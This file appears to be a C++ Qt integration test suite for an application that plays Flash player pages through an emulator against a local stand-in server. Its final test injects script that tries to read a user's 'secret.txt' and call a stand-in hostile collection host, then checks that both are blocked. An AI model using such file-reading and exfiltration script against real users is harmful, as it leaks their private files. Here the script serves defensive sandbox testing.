// The Player page played through the Flash emulator, on a virtual X display (the offscreen
// platform paints nothing), with the players served by the stand-in on loopback.

#include <fcntl.h>
#include <unistd.h>

#include <QApplication>
#include <QDeadlineTimer>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QMenu>
#include <QPointer>
#include <QScreen>
#include <QTemporaryDir>
#include <QTest>
#include <QWindow>

#include <cstdio>
#include <memory>

#include "catalogue/catalogue.h"
#include "deploy/deploy.h"
#include "evaluate_in_page.h"
#include "playback/player_page.h"
#include "playback/view/page_view.h"
#include "standin/picture_canvas.h"
#include "standin/services.h"
#include "standin/standin_environment.h"
#include "support/virtual_display.h"
#include "ui/trailer_window.h"

using namespace arlo::pageview;
using arlo::playback::PageTemplate;

namespace {

const std::string kPlayerHost = arlo::standin::hostOf(arlo::deploy::kPlayerHost);
const QString kFailureMessage = QStringLiteral("无法播放：播放器文件无法载入或已失效。");

// The stand-in's movie writes its text in yellow on a dark blue stage; its square is orange.
struct Ink {
    int pixels = 0;
    int left = 0;
    int right = -1;
    int width() const { return right - left + 1; }
};

Ink inkOf(const QImage& image) {
    Ink ink;
    ink.left = image.width();
    for (int y = 0; y < image.height(); ++y) {
        for (int x = 0; x < image.width(); ++x) {
            const QRgb p = image.pixel(x, y);
            if (qRed(p) > 180 && qGreen(p) > 180 && qBlue(p) < 90) {
                ++ink.pixels;
                ink.left = std::min(ink.left, x);
                ink.right = std::max(ink.right, x);
            }
        }
    }
    return ink;
}

int differingPixels(const QImage& a, const QImage& b) {
    if (a.size() != b.size()) {
        return a.width() * a.height();
    }
    int count = 0;
    for (int y = 0; y < a.height(); ++y) {
        for (int x = 0; x < a.width(); ++x) {
            const QRgb p = a.pixel(x, y);
            const QRgb q = b.pixel(x, y);
            if (std::abs(qRed(p) - qRed(q)) + std::abs(qGreen(p) - qGreen(q)) +
                    std::abs(qBlue(p) - qBlue(q)) >
                60) {
                ++count;
            }
        }
    }
    return count;
}

using arlo::pageview::test_support::evaluate;

QImage grab(QWidget& window) {
    return QGuiApplication::primaryScreen()->grabWindow(window.winId()).toImage();
}

// Waits until the movie's text is on screen; the picture then, or a null image.
QImage waitForPlaying(QWidget& window) {
    const QDeadlineTimer deadline(30000);
    while (!deadline.hasExpired()) {
        const QImage image = grab(window);
        if (inkOf(image).pixels > 40) {
            if (qEnvironmentVariableIsSet("ARLO_SCREENSHOT_DIR")) {
                static int shot = 0;
                image.save(QDir(qEnvironmentVariable("ARLO_SCREENSHOT_DIR"))
                               .filePath(QStringLiteral("flash_playback_%1.png").arg(++shot)));
            }
            return image;
        }
        QTest::qWait(100);
    }
    return {};
}

// Whether the picture moves: a screenshot a second after `first` differs from it. A machine
// under load may hold a frame back, so later screenshots get a few more seconds.
bool keepsMoving(QWidget& window, const QImage& first) {
    QTest::qWait(1000);
    const QDeadlineTimer deadline(10000);
    do {
        if (differingPixels(first, grab(window)) > 500) {
            return true;
        }
        QTest::qWait(200);
    } while (!deadline.hasExpired());
    return false;
}

// Records every message that Qt delivers while it is installed.
QStringList recordedMessages;
QtMessageHandler previousHandler = nullptr;
void recordMessage(QtMsgType type, const QMessageLogContext& context, const QString& text) {
    recordedMessages << text;
    previousHandler(type, context, text);
}

}  // namespace

class FlashPlaybackTest : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void cleanup();

    // Must run first: it starts the engine.
    void engineStartsAndPlaysWithoutWritingToTheTerminal();
    void japaneseEpisodePlaysAndShowsItsId();
    void mandarinLeTVPagePlaysThroughItsObjectElement();
    void trailerPlays();
    void playerThatCannotLoadShowsOneChineseMessage_data();
    void playerThatCannotLoadShowsOneChineseMessage();
    void nextPageTakesThePlayingPagesPlaceButNotAPageThatGaveUp();
    void rightClicksOnThePlayerOpenNoMenu();
    void linksInThePageLeaveTheViewWhereItIs();
    void pageInTheUsersFolderPlaysWhenTheRunDirectoryCannotBeWritten();
    void hostilePlayerReachesNeitherTheUsersFilesNorOtherHosts();

private:
    void openView();
    bool loadAndWait(const QString& path);
    QString writePage(PageTemplate which, const std::string& id);

    QTemporaryDir dir_;
    std::unique_ptr<arlo::standin::StandinEnvironment> standin_;
    std::unique_ptr<QWidget> window_;
    std::unique_ptr<PageView> view_;
};

void FlashPlaybackTest::initTestCase() {
    QVERIFY(dir_.isValid());
    // Player files are held to the program's network bounds, shortened here.
    qputenv("ARLO_NET_STALL_SECONDS", "5");
    qputenv("ARLO_NET_DEADLINE_SECONDS", "15");
    // Before the first view: the engine takes its host mapping when it starts.
    standin_ = std::make_unique<arlo::standin::StandinEnvironment>();
    QVERIFY(standin_->ok());
}

void FlashPlaybackTest::cleanup() {
    view_.reset();
    window_.reset();
}

void FlashPlaybackTest::openView() {
    window_ = std::make_unique<QWidget>();
    window_->resize(640, 400);
    view_ = createPageView(window_.get());
    view_->widget()->setGeometry(0, 0, 640, 400);
    window_->show();
    QVERIFY(QTest::qWaitForWindowExposed(window_.get()));
    QVERIFY2(view_->hasEngine(), qPrintable(engineLoadError()));
}

bool FlashPlaybackTest::loadAndWait(const QString& path) {
    bool finished = false;
    bool loaded = false;
    view_->setLoadFinishedHandler([&](bool ok) {
        finished = true;
        loaded = ok;
    });
    view_->load(path);
    const QDeadlineTimer deadline(30000);
    while (!finished && !deadline.hasExpired()) {
        QTest::qWait(20);
    }
    view_->setLoadFinishedHandler({});
    return finished && loaded;
}

QString FlashPlaybackTest::writePage(PageTemplate which, const std::string& id) {
    const std::string page = arlo::playback::playerPagePath(dir_.path().toStdString());
    if (arlo::playback::writePlayerPage(page, which, id) != arlo::playback::PageWrite::Written) {
        return {};
    }
    return QString::fromStdString(page);
}

void FlashPlaybackTest::engineStartsAndPlaysWithoutWritingToTheTerminal() {
    // Standard error goes to a file while the engine starts and plays a page.
    const QString errPath = dir_.filePath(QStringLiteral("stderr.txt"));
    std::fflush(stderr);
    const int savedErr = ::dup(2);
    const int errFile =
        ::open(QFile::encodeName(errPath).constData(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    QVERIFY(savedErr >= 0 && errFile >= 0);
    ::dup2(errFile, 2);
    ::close(errFile);
    recordedMessages.clear();
    previousHandler = qInstallMessageHandler(recordMessage);

    openView();
    const bool loaded = loadAndWait(writePage(PageTemplate::SohuId, "4711"));
    const QImage playing = waitForPlaying(*window_);

    qInstallMessageHandler(previousHandler);
    std::fflush(stderr);
    ::dup2(savedErr, 2);
    ::close(savedErr);
    QVERIFY(loaded);
    QVERIFY(!playing.isNull());

    QFile err(errPath);
    QVERIFY(err.open(QIODevice::ReadOnly));
    const QByteArray written = err.readAll();
    QVERIFY2(written.isEmpty(), written.constData());
    QVERIFY2(recordedMessages.isEmpty(), qPrintable(recordedMessages.join(QLatin1Char('\n'))));
}

void FlashPlaybackTest::japaneseEpisodePlaysAndShowsItsId() {
    openView();
    QVERIFY(loadAndWait(writePage(PageTemplate::SohuId, "1")));
    const QImage shortId = waitForPlaying(*window_);
    QVERIFY(!shortId.isNull());

    QVERIFY(loadAndWait(writePage(PageTemplate::SohuId, "7f3a01c9e2")));
    // The text is the play id from the page: ten characters take far more room than one. A
    // busy machine may still show the last frame of the earlier page for a moment after the
    // load has finished.
    const Ink one = inkOf(shortId);
    QImage first;
    const QDeadlineTimer deadline(30000);
    do {
        first = waitForPlaying(*window_);
    } while (!first.isNull() && inkOf(first).width() <= 4 * one.width() && !deadline.hasExpired() &&
             (QTest::qWait(100), true));
    QVERIFY(!first.isNull());
    // The square moves.
    QVERIFY(keepsMoving(*window_, first));
    const Ink ten = inkOf(first);
    QVERIFY2(ten.width() > 4 * one.width(),
             qPrintable(QStringLiteral("%1 vs %2").arg(ten.width()).arg(one.width())));
    QCOMPARE(evaluate(*view_, QStringLiteral("!!document.getElementById('arlo-playback-failure')"))
                 .toBool(),
             false);
    QCOMPARE(evaluate(*view_, QStringLiteral("document.querySelectorAll('.arlo-player-loading')"
                                             ".length"))
                 .toInt(),
             0);
}

void FlashPlaybackTest::mandarinLeTVPagePlaysThroughItsObjectElement() {
    openView();
    QVERIFY(loadAndWait(writePage(PageTemplate::LeTV, "2233445")));
    const QImage first = waitForPlaying(*window_);
    QVERIFY(!first.isNull());
    QVERIFY(keepsMoving(*window_, first));
    // One player for the object and the embed inside it.
    QCOMPARE(evaluate(*view_, QStringLiteral("document.querySelectorAll('ruffle-object').length"))
                 .toInt(),
             1);
    QCOMPARE(evaluate(*view_, QStringLiteral("document.querySelectorAll('ruffle-embed').length"))
                 .toInt(),
             0);
    // The player file was asked for with the page's id.
    QVERIFY(!standin_->server().requestsFor(kPlayerHost, "/20150110_letv.swf").empty());
}

void FlashPlaybackTest::trailerPlays() {
    const std::string page = arlo::playback::playerPagePath(dir_.path().toStdString());
    QWidget owner;
    owner.show();
    QPointer<arlo::ui::TrailerWindow> trailer = arlo::ui::TrailerWindow::open(page, &owner);
    QVERIFY(trailer);
    QVERIFY(QTest::qWaitForWindowExposed(trailer));
    const QImage first = waitForPlaying(*trailer);
    QVERIFY(!first.isNull());
    QVERIFY(keepsMoving(*trailer, first));
    const auto requests = standin_->server().requestsFor(kPlayerHost, "/sohu_20140917.swf");
    QVERIFY(!requests.empty());
    QCOMPARE(requests.back().queryValue("id"),
             arlo::catalogue::Catalogue::builtIn().trailerPlayId());
    trailer->close();
    QTRY_VERIFY(trailer.isNull());
}

void FlashPlaybackTest::playerThatCannotLoadShowsOneChineseMessage_data() {
    QTest::addColumn<int>("which");
    QTest::addColumn<QString>("id");
    QTest::addColumn<bool>("slow");
    QTest::newRow("404") << int(PageTemplate::SohuId) << QStringLiteral("test-404") << false;
    QTest::newRow("html reply") << int(PageTemplate::LeTV) << QStringLiteral("test-html") << false;
    QTest::newRow("no cross-origin read")
        << int(PageTemplate::Iqiyi) << QStringLiteral("test-no-cors") << false;
    QTest::newRow("no answer") << int(PageTemplate::SohuId) << QStringLiteral("test-silent")
                               << true;
    QTest::newRow("stalls") << int(PageTemplate::SohuVid) << QStringLiteral("test-stall") << true;
    QTest::newRow("trickles past the deadline")
        << int(PageTemplate::LeTV) << QStringLiteral("test-trickle") << true;
}

void FlashPlaybackTest::playerThatCannotLoadShowsOneChineseMessage() {
    QFETCH(int, which);
    QFETCH(QString, id);
    QFETCH(bool, slow);
    openView();
    QVERIFY(loadAndWait(writePage(static_cast<PageTemplate>(which), id.toStdString())));
    const QString rings =
        QStringLiteral("document.querySelectorAll('.arlo-player-loading').length");
    if (slow) {
        // While the player file is on its way, the page shows that it loads.
        QTRY_COMPARE_WITH_TIMEOUT(evaluate(*view_, rings).toInt(), 1, 10000);
    }
    QTRY_COMPARE_WITH_TIMEOUT(
        evaluate(*view_, QStringLiteral("(e => e ? e.innerText : '')("
                                        "document.getElementById('arlo-playback-failure'))"))
            .toString(),
        kFailureMessage, 30000);
    // Nothing of the emulator's own panel shows through, nor the loading ring.
    QCOMPARE(evaluate(*view_, QStringLiteral("document.body.innerText.trim()")).toString(),
             kFailureMessage);
    QCOMPARE(evaluate(*view_, rings).toInt(), 0);
}

void FlashPlaybackTest::nextPageTakesThePlayingPagesPlaceButNotAPageThatGaveUp() {
    const QString kept = QStringLiteral("window.kept === true");
    const QString keep = QStringLiteral("window.kept = true");
    const QString failureShown =
        QStringLiteral("!!document.getElementById('arlo-playback-failure')");
    openView();
    QVERIFY(loadAndWait(writePage(PageTemplate::SohuId, "test-404")));
    QTRY_VERIFY_WITH_TIMEOUT(evaluate(*view_, failureShown).toBool(), 30000);

    // The page that gave up is loaded afresh.
    evaluate(*view_, keep);
    QVERIFY(loadAndWait(writePage(PageTemplate::LeTV, "1")));
    QCOMPARE(evaluate(*view_, kept).toBool(), false);
    QVERIFY(!waitForPlaying(*window_).isNull());

    // The playing page keeps its emulator: the next document takes its place, and its player
    // is the only one (that it plays its own id is shown above).
    evaluate(*view_, keep);
    QVERIFY(loadAndWait(writePage(PageTemplate::SohuId, "7f3a01c9e2")));
    QCOMPARE(evaluate(*view_, kept).toBool(), true);
    QVERIFY(!waitForPlaying(*window_).isNull());
    QCOMPARE(evaluate(*view_, QStringLiteral("document.querySelectorAll('ruffle-object, "
                                             "ruffle-embed, object, embed').length"))
                 .toInt(),
             1);
    QCOMPARE(evaluate(*view_, failureShown).toBool(), false);
    // Where the engine refuses WebGL, the page no longer asks for it.
    QCOMPARE(evaluate(*view_, QStringLiteral("RufflePlayer.config.preferredRenderer === 'canvas'"))
                 .toBool(),
             evaluate(*view_, QStringLiteral("!new OffscreenCanvas(1, 1).getContext('webgl')"))
                 .toBool());
}

void FlashPlaybackTest::rightClicksOnThePlayerOpenNoMenu() {
    openView();
    QVERIFY(loadAndWait(writePage(PageTemplate::SohuVid, "5566")));
    QVERIFY(!waitForPlaying(*window_).isNull());
    evaluate(*view_, QStringLiteral("window.rightPresses = 0; document.addEventListener("
                                    "'pointerdown', e => { if (e.button === 2) "
                                    "window.rightPresses++; }, true); 0"));
    const QPoint centre(320, 200);
    QWindow* handle = window_->windowHandle();
    QTest::mouseClick(handle, Qt::RightButton, {}, centre);
    QTest::qWait(500);
    QTest::mouseClick(handle, Qt::RightButton, Qt::ShiftModifier, centre);
    QTest::qWait(1000);

    // The clicks reached the page...
    QCOMPARE(evaluate(*view_, QStringLiteral("window.rightPresses")).toInt(), 2);
    // ...yet neither the engine's menu nor the emulator's opened.
    for (QWidget* top : QApplication::topLevelWidgets()) {
        QVERIFY2(!(qobject_cast<QMenu*>(top) != nullptr && top->isVisible()),
                 "a context menu opened");
    }
    QCOMPARE(
        evaluate(*view_, QStringLiteral("[...document.querySelectorAll('ruffle-embed')].map(p => "
                                        "p.shadowRoot.querySelector('#context-menu-overlay')"
                                        ".classList.contains('hidden')).join()"))
            .toString(),
        QStringLiteral("true"));
}

void FlashPlaybackTest::linksInThePageLeaveTheViewWhereItIs() {
    const QString page = dir_.filePath(QStringLiteral("links.htm"));
    QFile file(page);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(
        "<html><body style='margin:0'>"
        "<a id='away' href='http://player.arloplayers.invalid/elsewhere.htm' "
        "style='display:block;width:300px;height:100px'>away</a>"
        "<a id='local' href='other.htm' "
        "style='display:block;width:300px;height:100px'>local</a>"
        "</body></html>");
    file.close();
    openView();
    QVERIFY(loadAndWait(page));
    evaluate(*view_, QStringLiteral("window.stillHere = true"));

    QTest::mouseClick(window_->windowHandle(), Qt::LeftButton, {}, QPoint(100, 50));
    QTest::mouseClick(window_->windowHandle(), Qt::LeftButton, {}, QPoint(100, 150));
    evaluate(*view_, QStringLiteral("location.href = 'http://player.arloplayers.invalid/x.htm'"));
    QTest::qWait(1500);

    QCOMPARE(evaluate(*view_, QStringLiteral("window.stillHere === true")).toBool(), true);
    QVERIFY(evaluate(*view_, QStringLiteral("location.pathname"))
                .toString()
                .endsWith(QStringLiteral("/links.htm")));
    // The view itself still loads what the program asks for.
    QVERIFY(loadAndWait(writePage(PageTemplate::SohuId, "99")));
    QVERIFY(!waitForPlaying(*window_).isNull());
}

void FlashPlaybackTest::pageInTheUsersFolderPlaysWhenTheRunDirectoryCannotBeWritten() {
    // A run directory that nobody can write in, root included: its path runs through a file.
    const QString blocker = dir_.filePath(QStringLiteral("not-a-folder"));
    QFile block(blocker);
    QVERIFY(block.open(QIODevice::WriteOnly));
    block.close();
    const std::string runDirectory = (blocker + QStringLiteral("/run")).toStdString();
    const std::string userFolder = dir_.filePath(QStringLiteral("runtime/Arlo迷")).toStdString();

    const arlo::playback::PlacedPage placed = arlo::playback::placePlayerPage(
        {}, {runDirectory, userFolder}, PageTemplate::SohuId, "31337");
    QCOMPARE(placed.result, arlo::playback::PageWrite::Written);
    QCOMPARE(placed.path, arlo::playback::playerPagePath(userFolder));

    openView();
    QVERIFY(loadAndWait(QString::fromStdString(placed.path)));
    const QImage first = waitForPlaying(*window_);
    QVERIFY(!first.isNull());
    QVERIFY(keepsMoving(*window_, first));
}

void FlashPlaybackTest::hostilePlayerReachesNeitherTheUsersFilesNorOtherHosts() {
    // A file of the user's, beside the page: the hostile player's script asks for it.
    QFile secret(dir_.filePath(QStringLiteral("secret.txt")));
    QVERIFY(secret.open(QIODevice::WriteOnly));
    secret.write("the user's own words");
    secret.close();
    auto hostileRequests = [this] {
        int count = 0;
        for (const auto& request : standin_->server().requests()) {
            count += request.raw.find("arlohostile") != std::string::npos ? 1 : 0;
        }
        return count;
    };
    standin_->server().clearRequests();

    openView();
    QVERIFY(loadAndWait(writePage(PageTemplate::Iqiyi, "test-hostile")));
    const QImage first = waitForPlaying(*window_);
    QVERIFY(!first.isNull());
    QVERIFY(keepsMoving(*window_, first));
    QCOMPARE(evaluate(*view_, QStringLiteral("window.arloHostileRan === true")).toBool(), false);
    QCOMPARE(evaluate(*view_, QStringLiteral("document.querySelectorAll('iframe').length")).toInt(),
             0);

    // Script that got into the page anyway reads no file but the page and reaches no host
    // but the players'.
    evaluate(*view_,
             QStringLiteral("window.reads = [];"
                            "for (const u of [location.href, 'secret.txt', "
                            "'http://%1/c?d=x', 'http://%2/sohu_20140917.swf?id=1']) fetch(u).then("
                            "r => r.text()).then(t => reads.push(u + ':' + t.length), "
                            "() => reads.push(u + ':failed')); 0")
                 .arg(QLatin1String(arlo::standin::kHostileCollectHost.data()),
                      QString::fromStdString(kPlayerHost)));
    QTRY_COMPARE(evaluate(*view_, QStringLiteral("reads.length")).toInt(), 4);
    const QString reads =
        evaluate(*view_, QStringLiteral("reads.map(r => r.replace(/^.*[/]/, '')).sort().join()"))
            .toString();
    QVERIFY2(reads.contains(QStringLiteral("secret.txt:failed")), qPrintable(reads));
    QVERIFY2(reads.contains(QStringLiteral("c?d=x:failed")), qPrintable(reads));
    QVERIFY2(!reads.contains(QStringLiteral("htm:failed")), qPrintable(reads));
    QVERIFY2(!reads.contains(QStringLiteral("id=1:failed")), qPrintable(reads));
    QCOMPARE(hostileRequests(), 0);
}

int main(int argc, char** argv) {
    arlo::testing::VirtualDisplay display;
    if (!display.start()) {
        std::fprintf(stderr, "Xvfb could not be started\n");
        return 1;
    }
    QApplication application(argc, argv);
    FlashPlaybackTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "flash_playback_test.moc"
